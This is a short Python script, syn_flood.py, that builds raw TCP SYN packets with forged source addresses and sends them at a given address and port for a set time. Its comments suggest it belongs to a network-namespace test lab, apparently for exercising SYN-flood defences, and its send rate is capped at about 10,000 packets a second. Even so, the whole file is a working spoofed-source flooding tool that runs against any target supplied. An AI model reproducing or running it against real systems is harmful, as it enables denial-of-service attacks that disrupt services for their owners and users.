"""SYNs from invented sources, as fast as this goes:   syn_flood.py ADDR PORT SECONDS SEED

In the namespace of the outside host, as root. Prints how many were sent.
"""
import random
import socket
import struct
import sys
import time

_CHUNK = 50
_PAUSE_S = 0.005  # 10,000 a second at most: the others' packets must have room in the virtual cable


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(dice, destination, port):
    source = bytes((203, dice.randrange(1, 255), dice.randrange(256), dice.randrange(1, 255)))
    tcp = struct.pack("!HHIIBBHHH", dice.randrange(1024, 65536), port, dice.randrange(1 << 32), 0, 5 << 4, 2, 64240, 0, 0)
    pseudo = source + destination + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    # The kernel fills in the total length, and the checksum of the IP header.
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0, source, destination) + tcp


def main(address, port, seconds, seed):
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    destination = socket.inet_aton(address)
    dice = random.Random(seed)
    sent = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for _ in range(_CHUNK):
            sock.sendto(syn(dice, destination, port), (address, 0))
            sent += 1
        time.sleep(_PAUSE_S)
    print(sent)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4]))
